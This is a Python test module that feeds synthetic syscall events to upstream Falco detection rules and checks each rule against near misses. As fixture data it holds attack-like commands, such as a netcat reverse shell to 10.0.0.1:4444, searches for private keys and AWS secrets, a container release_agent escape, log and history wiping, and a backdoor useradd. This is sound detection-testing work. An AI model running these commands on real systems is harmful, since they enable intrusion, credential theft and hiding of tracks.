"""Upstream Falco rules fire on the events they describe, and only on those.

The three upstream rule files are loaded together, unchanged, once per module.  Each case below
names one upstream rule and gives:

* a *positive* event built from what the rule's condition requires once its macros and lists
  are expanded (the last definition of a macro/list wins across the three files, as in Falco),
  following Falco's field semantics (absent fields make comparisons false and `not X` true,
  `evt.arg.*` render from the raw native values in `args`, container fields exist only when the
  record's container section has them);
* one or more *near misses* that differ from a positive in one meaningful detail (a trusted
  program, another file, a host process, a missing capability...) on which the rule must stay
  silent.

Other rules may fire on any of these events; only the named rule is checked.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

import pytest
import yaml

from falcoish import load_rules
from falcoish.runtime.engine import Engine

from .eventkit import (BASE_TS, O_APPEND, O_CLOEXEC, O_CREAT, O_RDONLY, O_RDWR, O_TRUNC, O_WRONLY,
                       event, exec_process, process, record)

# --------------------------------------------------------------------------------------------
# building blocks
# --------------------------------------------------------------------------------------------

O_NONBLOCK = 0o4000
CLONE_NEWNS = 0x00020000
SEC = 1_000_000_000

CAP_NAMES = """CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL
CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE CAP_NET_BROADCAST
CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT
CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE CAP_SYS_RESOURCE
CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE CAP_AUDIT_CONTROL
CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM CAP_BLOCK_SUSPEND
CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE""".split()


def caps(*names: str) -> int:
    """A native capability bit mask."""
    return sum(1 << CAP_NAMES.index(n) for n in names)


#: What `docker run` grants by default (no CAP_SYS_ADMIN, no CAP_SYS_MODULE).
DOCKER_CAPS = caps("CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL",
                   "CAP_SETGID", "CAP_SETUID", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE",
                   "CAP_NET_RAW", "CAP_SYS_CHROOT", "CAP_MKNOD", "CAP_AUDIT_WRITE", "CAP_SETFCAP")
#: `docker run --privileged`.
ALL_CAPS = (1 << len(CAP_NAMES)) - 1

CID = "3ad7b26ded6d"


def ctr(**over: Any) -> dict[str, Any]:
    """A container section (a plain, unprivileged alpine container unless overridden)."""
    section = {"id": CID, "full_id": CID + "9f" * 26, "name": "web-1", "type": "containerd",
               "image": "docker.io/library/alpine:3.20",
               "image_repository": "docker.io/library/alpine", "image_tag": "3.20",
               "privileged": False}
    section.update(over)
    return section


HOST = {"id": "host"}

ALICE = {"uid": 1000, "name": "alice", "homedir": "/home/alice", "shell": "/bin/bash",
         "loginname": "alice"}
WWW_DATA = {"uid": 33, "name": "www-data", "homedir": "/var/www", "shell": "/usr/sbin/nologin",
            "loginname": "alice"}
ALICE_CREDS = {"uid": 1000, "gid": 1000, "loginuid": 1000}


def lineage(*items: str | tuple[str, list[str]] | dict[str, Any]) -> list[dict[str, Any]]:
    """Ancestor sections, parent first: each item is a comm, (comm, args) or a full dict."""
    out: list[dict[str, Any]] = []
    pid = 900
    for i, item in enumerate(items):
        if isinstance(item, dict):
            out.append(item)
            pid -= 100
            continue
        comm, args = (item, []) if isinstance(item, str) else item
        out.append({"pid": pid, "tid": pid, "ppid": pid - 100 if i < len(items) - 1 else 0,
                    "comm": comm, "exe": comm, "exepath": f"/usr/bin/{comm}", "args": list(args),
                    "cwd": "/", "tty": 0, "sid": pid, "pgid": pid, "vpid": pid, "vpgid": pid,
                    "loginuid": -1, "uid": 0, "gid": 0})
        pid -= 100
    return out


#: Ancestors of a process started with `kubectl exec`/`docker exec` in a container.
IN_CONTAINER = lineage("bash", "containerd-shim", "systemd")


def open_at(path: str, flags: int, thread: dict[str, Any], *, mode: int = 0, nameraw: str | None = None,
            res: int = 3, **kw: Any) -> dict[str, Any]:
    """An openat(AT_FDCWD, path) that returned `res` (a failed one has no descriptor)."""
    raw = nameraw or path
    args = {"fd": res, "dirfd": -100, "name": raw, "flags": flags, "mode": mode}
    fd = None
    if res >= 0:
        fd = {"num": res, "type": "file", "name": path, "flags": flags}
        if nameraw is not None:
            fd["nameraw"] = nameraw
    return record("openat", thread=thread, args=args, res=res, fd=fd, **kw)


def write_file(path: str, comm: str, args: list[str] | None = None, *,
               flags: int = O_WRONLY | O_CREAT | O_TRUNC, **kw: Any) -> dict[str, Any]:
    thread = kw.pop("thread", None) or process(comm, args if args is not None else [path])
    return open_at(path, flags, thread, mode=0o644 if flags & O_CREAT else 0, **kw)


def read_file(path: str, comm: str, args: list[str] | None = None, **kw: Any) -> dict[str, Any]:
    thread = kw.pop("thread", None) or process(comm, args if args is not None else [path])
    return open_at(path, O_RDONLY, thread, **kw)


def inet(cip: str, cport: int, sip: str, sport: int, *, num: int = 3, l4: str = "tcp",
         connected: bool = True) -> dict[str, Any]:
    """An IPv4 socket descriptor, client -> server."""
    return {"num": num, "type": "ipv4", "name": f"{cip}:{cport}->{sip}:{sport}", "l4proto": l4,
            "cip": cip, "cport": cport, "sip": sip, "sport": sport, "is_server": False,
            "connected": connected}


def connect(thread: dict[str, Any], cip: str, cport: int, sip: str, sport: int, *, res: int = 0,
            l4: str = "tcp", **kw: Any) -> dict[str, Any]:
    fd = inet(cip, cport, sip, sport, l4=l4, connected=res in (0, -115))
    args = {"res": res, "tuple": fd["name"], "fd": fd["num"], "addr": f"{sip}:{sport}"}
    return record("connect", thread=thread, args=args, res=res, fd=fd, **kw)


def syscall(evtype: str, comm: str, args: dict[str, Any], *, proc_args: list[str] | None = None,
            res: int = 0, thread_extra: dict[str, Any] | None = None, **kw: Any) -> dict[str, Any]:
    """A non-exec, non-open syscall made by a process named `comm`."""
    thread = process(comm, proc_args or [], **(thread_extra or {}))
    return record(evtype, thread=thread, args={"res": res, **args} if "res" not in args else args,
                  res=res, **kw)


def execp(comm: str, args: list[str] | None = None, **kw: Any) -> dict[str, Any]:
    """exec_process with the record's container and ancestors defaulted consistently."""
    if kw.get("container", HOST).get("id", "host") != "host":
        kw.setdefault("ancestors", IN_CONTAINER)
    return exec_process(comm, args, **kw)


def changed(rec: dict[str, Any], **sections: Any) -> dict[str, Any]:
    """A deep copy of `rec` with some sections merged/replaced (`thread={...}` is merged)."""
    out = copy.deepcopy(rec)
    for key, value in sections.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict) and key != "container":
            out[key].update(value)
        else:
            out[key] = value
    return out


@dataclass(frozen=True)
class Has:
    """Expected output value: a string containing `part`."""

    part: str

    def __eq__(self, other: object) -> bool:
        return isinstance(other, str) and self.part in other

    def __repr__(self) -> str:
        return f"<str containing {self.part!r}>"


@dataclass
class Case:
    rule: str
    positive: dict[str, Any]
    misses: dict[str, dict[str, Any]]
    expect: dict[str, Any]                  # output field key -> expected value
    label: str = "positive"
    xfail: str | None = None


# --------------------------------------------------------------------------------------------
# the cases (rules of falco_rules.yaml, then incubating, then sandbox)
# --------------------------------------------------------------------------------------------

CASES: list[Case] = []


def case(rule: str, positive: dict[str, Any], expect: dict[str, Any], misses: dict[str, dict[str, Any]],
         **kw: Any) -> None:
    CASES.append(Case(rule, positive, misses, expect, **kw))


# ---- falco_rules.yaml ------------------------------------------------------------------------

_php = process("php-fpm8.2", [], exepath="/usr/sbin/php-fpm8.2", cwd="/var/www/html/")
_traversal = open_at("/etc/passwd", O_RDONLY, _php, nameraw="../../../etc/passwd",
                     ancestors=lineage(("php-fpm8.2", ["--nodaemonize"]), "systemd"))
case("Directory traversal monitored file read", _traversal,
     {"fd.nameraw": "../../../etc/passwd", "fd.name": "/etc/passwd", "proc.pname": "php-fpm8.2"},
     {"parent is a shell": changed(_traversal, ancestors=lineage("bash", "sshd", "systemd")),
      "absolute path, no traversal": open_at("/etc/passwd", O_RDONLY, _php,
                                             ancestors=_traversal["ancestors"]),
      "traversal to a file outside /etc and ~/.ssh": open_at(
          "/var/www/data.txt", O_RDONLY, _php, nameraw="../../../var/www/data.txt",
          ancestors=_traversal["ancestors"])})
# The rule also covers failed opens (open_file_failed: fd.num=-1, evt.res=ENOENT): Falco then
# takes fd.name/fd.nameraw from the event's path argument.
case("Directory traversal monitored file read",
     open_at("/root/.ssh/id_rsa", O_RDONLY, _php, nameraw="../../../root/.ssh/id_rsa", res=-2,
             ancestors=_traversal["ancestors"]),
     {"fd.nameraw": "../../../root/.ssh/id_rsa", "evt.type": "openat"}, {},
     label="failed open")

_shadow = read_file("/etc/shadow", "cat")
case("Read sensitive file untrusted", _shadow,
     {"fd.name": "/etc/shadow", "proc.name": "cat", "proc.aname[2]": "sshd"},
     {"trusted shadow-utils program": read_file("/etc/shadow", "unix_chkpwd"),
      "not a sensitive file": read_file("/etc/passwd", "cat"),
      "opened for writing only": write_file("/etc/shadow", "cat", flags=O_WRONLY)})
case("Read sensitive file untrusted", read_file("/etc/pam.d/common-auth", "python3", ["exfil.py"]),
     {"fd.name": "/etc/pam.d/common-auth"},
     {"ansible running python": read_file("/etc/pam.d/common-auth", "python3",
                                          ["/tmp/ansible-tmp-1/AnsiballZ_setup.py"])},
     label="file below /etc/pam.d")

_nginx = lineage(("nginx", ["-g", "daemon off;"]), ("nginx", ["-g", "daemon off;"]), "systemd")
_web_sh = execp("sh", ["-c", "cat /etc/passwd"], ancestors=_nginx)
case("Run shell untrusted", _web_sh,
     {"proc.pname": "nginx", "proc.cmdline": "sh -c cat /etc/passwd"},
     {"parent is not a protected shell spawner": execp("sh", ["-c", "cat /etc/passwd"],
                                                      ancestors=lineage("node", "systemd")),
      "known shell spawn command line": execp("sh", ["-c", "uname -a 2>&1"], ancestors=_nginx),
      "not a shell": execp("cat", ["/etc/passwd"], ancestors=_nginx)})

_tty_shell = execp("bash", [], container=ctr(), ancestors=lineage("runc", "containerd-shim", "systemd"))
case("Terminal shell in container", _tty_shell, {"proc.name": "bash", "proc.tty": 34816},
     {"no terminal": changed(_tty_shell, thread={"tty": 0}),
      "host process": changed(_tty_shell, container=HOST),
      "parent is a shell of the container": changed(
          _tty_shell, ancestors=lineage("sh", "runc", "containerd-shim", "systemd"))})
case("Terminal shell in container",
     execp("sh", [], container=ctr(), ancestors=lineage("runc:[0:PARENT]", "containerd-shim")),
     {"proc.pname": "runc:[0:PARENT]"}, {}, label="runc:[0:PARENT] parent")
case("Terminal shell in container", execp("sh", [], container=ctr(), ancestors=[]),
     {"proc.name": "sh"}, {}, label="parent unknown")

_nc = execp("nc", ["-e", "/bin/sh", "10.0.0.1", "4444"], container=ctr())
case("Netcat Remote Code Execution in Container", _nc,
     {"proc.cmdline": "nc -e /bin/sh 10.0.0.1 4444"},
     {"host process": changed(_nc, container=HOST),
      "no -e/-c option": execp("nc", ["-zv", "10.0.0.1", "80"], container=ctr())})

_grep_key = execp("grep", ["-ri", "begin openssh private", "/home"])
case("Search Private Keys or Passwords", _grep_key,
     {"proc.cmdline": "grep -ri begin openssh private /home"},
     {"searching for a password (grep_more is off)": execp("grep", ["-ri", "password", "/etc"])})
case("Search Private Keys or Passwords", execp("find", ["/", "-name", "id_ed25519"]),
     {"proc.name": "find"}, {"find for another name": execp("find", ["/", "-name", "*.pem"])},
     label="find id_ed25519")

_truncate_log = write_file("/var/log/auth.log", "bash", [], flags=O_WRONLY | O_CREAT | O_TRUNC)
case("Clear Log Activities", _truncate_log, {"fd.name": "/var/log/auth.log", "proc.name": "bash"},
     {"appending, not truncating": write_file("/var/log/auth.log", "bash", [],
                                             flags=O_WRONLY | O_CREAT | O_APPEND),
      "not a log file": write_file("/home/alice/notes.txt", "bash", [],
                                   flags=O_WRONLY | O_CREAT | O_TRUNC),
      "trusted logging image": changed(
          _truncate_log, container=ctr(image_repository="docker.io/fluent/fluentd-kubernetes-daemonset"))})
case("Clear Log Activities", write_file("/opt/app/logs/syslog", "truncate", ["-s", "0", "/opt/app/logs/syslog"],
                                        flags=O_WRONLY | O_CREAT | O_TRUNC),
     {"fd.name": "/opt/app/logs/syslog"}, {}, label="log file name outside /var/log")

_shred = execp("shred", ["-u", "-z", "/var/lib/mysql/ibdata1"])
case("Remove Bulk Data from Disk", _shred, {"proc.name": "shred"},
     {"ordinary rm": execp("rm", ["-f", "/var/lib/mysql/ibdata1"])})

_symlink = syscall("symlinkat", "ln", {"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/s"},
                   proc_args=["-s", "/etc/shadow", "/tmp/s"])
case("Create Symlink Over Sensitive Files", _symlink,
     {"evt.arg.target": "/etc/shadow", "proc.name": "ln"},
     {"not a sensitive target": syscall("symlinkat", "ln", {"target": "/etc/hostname", "linkdirfd": -100,
                                                            "linkpath": "/tmp/s"},
                                        proc_args=["-s", "/etc/hostname", "/tmp/s"])})
case("Create Symlink Over Sensitive Files",
     syscall("symlink", "ln", {"target": "/root", "linkpath": "/tmp/r"}, proc_args=["-s", "/root", "/tmp/r"]),
     {"evt.arg.target": "/root"}, {}, label="sensitive directory")

_hardlink = syscall("linkat", "ln", {"olddir": -100, "oldpath": "/etc/shadow", "newdir": -100,
                                     "newpath": "/tmp/sh", "flags": 0}, proc_args=["/etc/shadow", "/tmp/sh"])
case("Create Hardlink Over Sensitive Files", _hardlink,
     {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/sh"},
     {"not a sensitive file": syscall("linkat", "ln", {"olddir": -100, "oldpath": "/etc/hosts", "newdir": -100,
                                                       "newpath": "/tmp/h", "flags": 0},
                                      proc_args=["/etc/hosts", "/tmp/h"])})
# oldpath is relative to AT_FDCWD: Falco resolves it against the cwd before comparing.
case("Create Hardlink Over Sensitive Files",
     syscall("link", "ln", {"oldpath": "sudoers", "newpath": "/tmp/su"}, proc_args=["sudoers", "/tmp/su"],
             thread_extra={"cwd": "/etc/"}),
     {"evt.arg.oldpath": "/etc/sudoers"}, {}, label="relative oldpath")

_packet = syscall("socket", "tcpdump", {"fd": 3, "domain": 17, "type": 3, "proto": 768, "flags": 0},
                  proc_args=["-i", "eth0"], res=3, fd={"num": 3, "type": "unknown", "name": ""},
                  container=ctr(), ancestors=IN_CONTAINER)
case("Packet socket created in container", _packet, {"proc.name": "tcpdump", "evt.args": Has("AF_PACKET")},
     {"AF_INET socket": changed(_packet, args={"fd": 3, "domain": 2, "type": 1, "proto": 6, "flags": 0},
                                fd={"num": 3, "type": "ipv4", "name": ""}),
      "host process": changed(_packet, container=HOST)})

_dup = syscall("dup2", "bash", {"res": 0, "oldfd": 3, "newfd": 0}, proc_args=["-i"], res=0,
               fd=inet("172.17.0.5", 40312, "203.0.113.7", 4444, num=0), container=ctr(),
               ancestors=IN_CONTAINER)
case("Redirect STDOUT/STDIN to Network Connection in Container", _dup,
     {"fd.name": "172.17.0.5:40312->203.0.113.7:4444", "fd.type": "ipv4"},
     {"duplicated to fd 5": changed(_dup, res=5, args={"res": 5, "oldfd": 3, "newfd": 5},
                                    fd=inet("172.17.0.5", 40312, "203.0.113.7", 4444, num=5)),
      "host process": changed(_dup, container=HOST),
      "pipe, not a socket": changed(_dup, fd={"num": 0, "type": "pipe", "name": ""})})

_insmod = syscall("finit_module", "insmod", {"fd": 3, "uargs": "", "flags": 0}, proc_args=["/tmp/rk.ko"],
                  thread_extra={"cap_effective": ALL_CAPS, "cap_permitted": ALL_CAPS},
                  fd={"num": 3, "type": "file", "name": "/tmp/rk.ko"},
                  container=ctr(privileged=True), ancestors=IN_CONTAINER)
case("Linux Kernel Module Injection Detected", _insmod, {"proc.args": "/tmp/rk.ko", "evt.res": "SUCCESS"},
     {"no CAP_SYS_MODULE": changed(_insmod, thread={"cap_effective": DOCKER_CAPS}),
      "host process": changed(_insmod, container=HOST)})

_debugfs = execp("debugfs", ["/dev/sda1"], container=ctr(privileged=True))
case("Debugfs Launched in Privileged Container", _debugfs, {"proc.cmdline": "debugfs /dev/sda1"},
     {"unprivileged container": changed(_debugfs, container=ctr(privileged=False)),
      "host process": changed(_debugfs, container=HOST)})

_release = write_file("/tmp/cgrp/release_agent", "sh", ["-c", "echo /cmd > /tmp/cgrp/release_agent"],
                      thread=process("sh", ["-c", "echo /cmd > /tmp/cgrp/release_agent"],
                                     cap_effective=ALL_CAPS, cap_permitted=ALL_CAPS),
                      container=ctr(privileged=True), ancestors=IN_CONTAINER)
case("Detect release_agent File Container Escapes", _release,
     {"fd.name": "/tmp/cgrp/release_agent", "thread.cap_effective": Has("CAP_SYS_ADMIN")},
     {"no CAP_SYS_ADMIN": changed(_release, thread={"cap_effective": DOCKER_CAPS}),
      "opened read-only": changed(_release, args={"fd": 3, "dirfd": -100, "name": "/tmp/cgrp/release_agent",
                                                  "flags": O_RDONLY, "mode": 0},
                                  fd={"num": 3, "type": "file", "name": "/tmp/cgrp/release_agent",
                                      "flags": O_RDONLY})})


def ptrace(comm: str, request: int, args: list[str] | None = None, **kw: Any) -> dict[str, Any]:
    return syscall("ptrace", comm, {"addr": 0, "data": 0, "request": request, "pid": 1234},
                   proc_args=args, resolved={"pid": "sshd"}, **kw)


case("PTRACE attached to process", ptrace("gdb", 16, ["-p", "1234"]),
     {"proc.name": "gdb", "proc.cmdline": "gdb -p 1234"},
     {"PTRACE_CONT": ptrace("gdb", 7, ["-p", "1234"]),
      "PTRACE_PEEKDATA": ptrace("gdb", 2, ["-p", "1234"]),
      "PTRACE_TRACEME": ptrace("gdb", 0, ["-p", "1234"])})
case("PTRACE attached to process", ptrace("injector", 0x4206), {"proc.name": "injector"}, {},
     label="PTRACE_SEIZE")
case("PTRACE attached to process", ptrace("injector", 4), {"proc.name": "injector"}, {},
     label="PTRACE_POKETEXT")

case("PTRACE anti-debug attempt", ptrace("malware", 0), {"proc.name": "malware"},
     {"PTRACE_ATTACH": ptrace("malware", 16)})

_aws_grep = execp("grep", ["-rn", "AWS_SECRET_ACCESS_KEY", "/home"])
case("Find AWS Credentials", _aws_grep, {"proc.cmdline": "grep -rn AWS_SECRET_ACCESS_KEY /home"},
     {"searching for something else": execp("grep", ["-rn", "AWS_REGION", "/home"]),
      "not grep": execp("sed", ["-n", "/aws_secret_access_key/p", "/root/.aws/credentials"])})
case("Find AWS Credentials", execp("find", ["/", "-path", "*/.aws/credentials"]),
     {"proc.name": "find"}, {"find for the config": execp("find", ["/", "-path", "*/.aws/config"])},
     label="find credentials file")

_shm = execp("payload", [], proc={"exe": "/dev/shm/payload", "exepath": "/dev/shm/payload"})
case("Execution from /dev/shm", _shm, {"proc.exepath": "/dev/shm/payload", "proc.name": "payload"},
     {"executed from /tmp": execp("payload", [], proc={"exe": "/tmp/payload", "exepath": "/tmp/payload"}),
      "trusted falco image": execp("payload", [], proc={"exe": "/dev/shm/payload", "exepath": "/dev/shm/payload"},
                                   container=ctr(image_repository="docker.io/falcosecurity/falco"))})
case("Execution from /dev/shm", execp("bash", ["-c", "/dev/shm/run.sh"]),
     {"proc.cmdline": "bash -c /dev/shm/run.sh"},
     {"script in /tmp": execp("bash", ["-c", "/tmp/run.sh"])}, label="shell -c /dev/shm script")
case("Execution from /dev/shm",
     execp("x", [], proc={"exe": "./x", "exepath": "/dev/shm/x", "cwd": "/dev/shm/"}),
     {"proc.cwd": "/dev/shm/"}, {}, label="./x with cwd /dev/shm")

_drop = execp("xmr", [], proc={"exe": "./xmr", "exepath": "/tmp/xmr", "cwd": "/tmp/",
                               "exe_upper_layer": True, "exe_writable": True}, container=ctr())
case("Drop and execute new binary in container", _drop, {"proc.exe": "./xmr", "proc.exepath": "/tmp/xmr"},
     {"binary from the image": execp("xmr", [], proc={"exe": "./xmr", "exepath": "/tmp/xmr", "cwd": "/tmp/",
                                                      "exe_upper_layer": False, "exe_lower_layer": True},
                                     container=ctr())})

_ssh = process("ssh", ["-p", "443", "bob@203.0.113.10"], exe="/usr/bin/ssh")
_ssh_443 = connect(_ssh, "192.168.1.20", 51234, "203.0.113.10", 443)
case("Disallowed SSH Connection Non Standard Port", _ssh_443,
     {"fd.name": "192.168.1.20:51234->203.0.113.10:443", "proc.name": "ssh"},
     {"standard port 22": connect(process("ssh", ["bob@203.0.113.10"], exe="/usr/bin/ssh"),
                                  "192.168.1.20", 51234, "203.0.113.10", 22),
      "connection refused": connect(_ssh, "192.168.1.20", 51234, "203.0.113.10", 443, res=-111),
      "private destination": connect(_ssh, "192.168.1.20", 51234, "10.1.2.3", 443),
      "not ssh": connect(process("curl", ["https://203.0.113.10"]), "192.168.1.20", 51234,
                         "203.0.113.10", 443)})
case("Disallowed SSH Connection Non Standard Port",
     connect(_ssh, "192.168.1.20", 51234, "203.0.113.10", 443, res=-115),
     {"evt.type": "connect"}, {}, label="EINPROGRESS")

_memfd = execp("3", [], proc={"exe": "/proc/self/fd/3", "exepath": "memfd:payload", "exe_from_memfd": True})
case("Fileless execution via memfd_create", _memfd, {"proc.exepath": "memfd:payload", "proc.name": "3"},
     {"run by runc": changed(_memfd, ancestors=lineage("runc", "containerd-shim", "systemd")),
      "regular executable": execp("3", [], proc={"exe": "/proc/self/fd/3", "exepath": "/usr/bin/true",
                                                 "exe_from_memfd": False})})

_www_shell = execp("bash", ["-i"], proc={"uid": 33, "gid": 33}, user=WWW_DATA)
case("System user interactive", _www_shell, {"user.name": "www-data", "proc.name": "bash"},
     {"regular user": execp("bash", ["-i"], proc=ALICE_CREDS, user=ALICE),
      "not below sshd/login": changed(_www_shell, ancestors=lineage("cron", "systemd"))})

_old_nginx = read_file("/etc/shadow", "nginx", ["-g", "daemon off;"],
                       thread=process("nginx", ["-g", "daemon off;"], start_ts=BASE_TS - 3600 * SEC),
                       ancestors=lineage("nginx", "systemd"))
case("Read sensitive file trusted after startup", _old_nginx, {"fd.name": "/etc/shadow", "proc.name": "nginx"},
     {"process just started": changed(_old_nginx, thread={"start_ts": BASE_TS - 2 * SEC}),
      "not a server program": changed(_old_nginx, thread={"comm": "vim", "exe": "vim"})})

# ---- falco-incubating_rules.yaml -------------------------------------------------------------

_nmap_c = execp("nmap", ["-sS", "10.0.0.0/24"], container=ctr())
case("Launch Suspicious Network Tool in Container", _nmap_c, {"proc.name": "nmap"},
     {"host process": execp("nmap", ["-sS", "10.0.0.0/24"]),
      "not a network tool": execp("ping", ["-c1", "10.0.0.1"], container=ctr())})
case("Launch Suspicious Network Tool on Host", execp("tcpdump", ["-i", "any"]), {"proc.name": "tcpdump"},
     {"container process": execp("tcpdump", ["-i", "any"], container=ctr())})

_suid = syscall("chmod", "chmod", {"filename": "/tmp/rootsh", "mode": 0o4755}, proc_args=["u+s", "/tmp/rootsh"])
case("Set Setuid or Setgid bit", _suid,
     {"evt.arg.filename": "/tmp/rootsh",
      "evt.arg.mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"},
     {"plain 0755": syscall("chmod", "chmod", {"filename": "/tmp/rootsh", "mode": 0o755},
                            proc_args=["755", "/tmp/rootsh"]),
      "kubelet": changed(_suid, thread={"comm": "kubelet", "exe": "kubelet"})})
case("Set Setuid or Setgid bit",
     syscall("fchmodat", "chmod", {"dirfd": -100, "filename": "/usr/local/bin/tool", "mode": 0o2755},
             proc_args=["g+s", "/usr/local/bin/tool"]),
     {"evt.arg.mode": Has("S_ISGID")}, {}, label="setgid via fchmodat")

_unshare = syscall("unshare", "unshare", {"flags": CLONE_NEWNS}, proc_args=["-m", "/bin/sh"], res=-1,
                   thread_extra={"cap_permitted": DOCKER_CAPS, "cap_effective": DOCKER_CAPS},
                   container=ctr(), ancestors=IN_CONTAINER)
case("Change namespace privileges via unshare", _unshare, {"evt.res": "EPERM", "proc.name": "unshare"},
     {"has CAP_SYS_ADMIN": changed(_unshare, thread={"cap_permitted": ALL_CAPS, "cap_effective": ALL_CAPS}),
      "host process": changed(_unshare, container=HOST)})

_authkeys = write_file("/home/alice/.ssh/authorized_keys", "bash", [], flags=O_WRONLY | O_CREAT | O_APPEND)
case("Adding ssh keys to authorized_keys", _authkeys, {"fd.name": "/home/alice/.ssh/authorized_keys"},
     {"another ssh file": write_file("/home/alice/.ssh/known_hosts", "bash", [], flags=O_WRONLY | O_CREAT | O_APPEND),
      "ssh program": changed(_authkeys, thread={"comm": "sshd", "exe": "sshd"}),
      "read only": read_file("/home/alice/.ssh/authorized_keys", "bash", [])})
case("Adding ssh keys to authorized_keys",
     write_file("/root/.ssh/authorized_keys", "tee", ["-a", "/root/.ssh/authorized_keys"],
                flags=O_WRONLY | O_CREAT | O_APPEND),
     {"fd.name": "/root/.ssh/authorized_keys"}, {}, label="root's keys")

_environ = read_file("/proc/1/environ", "cat", container=ctr(), ancestors=IN_CONTAINER)
case("Read environment variable from /proc files", _environ, {"fd.name": "/proc/1/environ"},
     {"cmdline, not environ": read_file("/proc/1/cmdline", "cat", container=ctr(), ancestors=IN_CONTAINER),
      "host process": changed(_environ, container=HOST)})

_bpf = syscall("bpf", "loader", {"fd": 5, "cmd": 5}, res=5, fd={"num": 5, "type": "bpf", "name": ""})
case("BPF Program Not Profiled", _bpf, {"evt.arg.cmd": "BPF_PROG_LOAD", "proc.name": "loader"},
     {"BPF_MAP_CREATE": syscall("bpf", "loader", {"fd": 5, "cmd": 0}, res=5,
                                fd={"num": 5, "type": "bpf", "name": ""}),
      "profiled program": changed(_bpf, thread={"comm": "bpftool", "exe": "bpftool"})})

_devfile = write_file("/dev/.udev_rk", "sh", ["-c", "cat > /dev/.udev_rk"], flags=O_WRONLY | O_CREAT)
case("Create files below dev", _devfile, {"fd.name": "/dev/.udev_rk"},
     {"allowed device file": write_file("/dev/null", "sh", ["-c", "cat > /dev/null"], flags=O_WRONLY | O_CREAT),
      "below /dev/shm": write_file("/dev/shm/x", "sh", ["-c", "cat > /dev/shm/x"], flags=O_WRONLY | O_CREAT),
      "no O_CREAT": write_file("/dev/.udev_rk", "sh", ["-c", "cat > /dev/.udev_rk"], flags=O_WRONLY)})

_tunables = execp("su", [], proc={"env": ["GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A",
                                          "PATH=/usr/bin"], **ALICE_CREDS}, user=ALICE)
case("Potential Local Privilege Escalation via Environment Variables Misuse", _tunables,
     {"proc.env": Has("GLIBC_TUNABLES=")},
     {"harmless environment": execp("su", [], proc={"env": ["PATH=/usr/bin", "LANG=C"], **ALICE_CREDS},
                                    user=ALICE)})

_rm_hist = syscall("unlinkat", "rm", {"dirfd": -100, "name": "/root/.bash_history", "flags": 0},
                   proc_args=["-f", "/root/.bash_history"])
case("Delete or rename shell history", _rm_hist, {"evt.arg.name": "/root/.bash_history"},
     {"another dotfile": syscall("unlinkat", "rm", {"dirfd": -100, "name": "/root/.bashrc", "flags": 0},
                                 proc_args=["-f", "/root/.bashrc"]),
      "below /var/lib/docker": syscall("unlinkat", "rm", {"dirfd": -100, "flags": 0,
                                                          "name": "/var/lib/docker/overlay2/x/merged/root/.bash_history"},
                                       proc_args=["-f", "/var/lib/docker/overlay2/x/merged/root/.bash_history"])})
case("Delete or rename shell history",
     write_file("/root/.zsh_history", "bash", [], flags=O_WRONLY | O_TRUNC),
     {"fd.name": "/root/.zsh_history"},
     {"appending to the history": write_file("/root/.zsh_history", "bash", [], flags=O_WRONLY | O_APPEND)},
     label="truncated history")

_priv_start = execp("nginx", ["-g", "daemon off;"], proc={"vpid": 1, "vpgid": 1},
                    container=ctr(privileged=True, image_repository="docker.io/library/nginx"),
                    ancestors=lineage("containerd-shim", "systemd"))
case("Launch Privileged Container", _priv_start, {"proc.name": "nginx"},
     {"trusted privileged image": changed(_priv_start, container=ctr(privileged=True,
                                                                     image_repository="docker.io/calico/node")),
      "not the container's first process": changed(_priv_start, thread={"vpid": 17, "vpgid": 17}),
      "unprivileged": changed(_priv_start, container=ctr(image_repository="docker.io/library/nginx"))})

_capable = execp("app", [], proc={"vpid": 1, "vpgid": 1, "cap_permitted": DOCKER_CAPS | caps("CAP_SYS_ADMIN")},
                 container=ctr(), ancestors=lineage("containerd-shim", "systemd"))
case("Launch Excessively Capable Container", _capable, {"thread.cap_permitted": Has("CAP_SYS_ADMIN")},
     {"default capabilities": changed(_capable, thread={"cap_permitted": DOCKER_CAPS})})

_setuid = syscall("setuid", "exploit", {"uid": 0}, res=-1, thread_extra=ALICE_CREDS, user=ALICE,
                  resolved={"uid": "root"})
case("Non sudo setuid", _setuid, {"evt.arg.uid": "root", "user.name": "alice"},
     {"www-data becoming itself": syscall("setuid", "apache2", {"uid": 33}, res=0,
                                          thread_extra={"uid": 33, "gid": 33}, user=WWW_DATA,
                                          resolved={"uid": "www-data"}),
      "sudo": changed(_setuid, thread={"comm": "sudo", "exe": "sudo"})})

_useradd = execp("useradd", ["-m", "backdoor"])
case("User mgmt binaries", _useradd, {"proc.cmdline": "useradd -m backdoor", "proc.aname[2]": "sshd"},
     {"container process": execp("useradd", ["-m", "backdoor"], container=ctr()),
      "useradd -D": execp("useradd", ["-D"])})

_apt = execp("apt-get", ["install", "-y", "netcat"], container=ctr())
case("Launch Package Management Process in Container", _apt, {"proc.cmdline": "apt-get install -y netcat"},
     {"dpkg run by apt-get": execp("dpkg", ["-i", "/var/cache/apt/archives/netcat.deb"], container=ctr(),
                                   ancestors=lineage("apt-get", "bash", "containerd-shim", "systemd")),
      "host process": changed(_apt, container=HOST)})

